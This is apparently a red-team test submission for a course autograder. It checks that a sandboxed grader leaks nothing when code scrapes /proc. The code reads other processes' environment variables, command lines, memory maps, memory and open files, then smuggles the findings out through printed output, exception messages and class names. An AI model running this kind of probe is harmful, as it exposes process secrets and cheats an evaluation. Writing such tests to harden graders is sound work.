"""Red team 81_read_the_grader_through_proc.

Attack: Read every process's environ, cmdline, cwd, open files and memory through /proc, looking
for the grader's environment and open casebook; report whatever it finds through every
channel it has (exception messages, class names, printed output).

Deserves: the short answers only (8); nothing it read reaches the feedback.
"""

# --------------------------------------------------------------------------------------------
# The reference answers and functions (honest part of this file):
# <<the reference solution, solutions/a2.py, is inserted here by redteam_catalog>>

# --------------------------------------------------------------------------------------------
# The attack.
# --------------------------------------------------------------------------------------------
import os as _os
import sys as _sys

_loot = []
for _name in _os.listdir("/proc"):
    if not _name.isdigit() or int(_name) == _os.getpid():
        continue
    for _what in ("environ", "cmdline", "maps", "mem"):
        try:
            with open(f"/proc/{_name}/{_what}", "rb") as _handle:
                _loot.append(_handle.read(4096))
        except OSError:
            pass
    for _link in ("cwd", "root", "exe"):
        try:
            _loot.append(_os.listdir(f"/proc/{_name}/{_link}")[:20])
        except OSError:
            pass
    try:
        for _fd in _os.listdir(f"/proc/{_name}/fd"):
            _target = _os.readlink(f"/proc/{_name}/fd/{_fd}")
            with open(f"/proc/{_name}/fd/{_fd}", "rb") as _handle:
                _loot.append(_target.encode() + _handle.read(4096))
    except OSError:
        pass
_text = repr([x for x in _loot if x and b"A2_REDTEAM" in (x if isinstance(x, bytes) else b"")])
print(_text)
print(_text, file=_sys.stderr)


class _Leak(Exception):
    pass


_Leak.__name__ = _text[:60]
_Leak.__qualname__ = _text[:60]


def receptive_field(layers):
    raise _Leak(_text)


def transposed_conv2d(x, kernel, stride=1, padding=0, dilation=1):
    return type(_text[:60], (), {})()
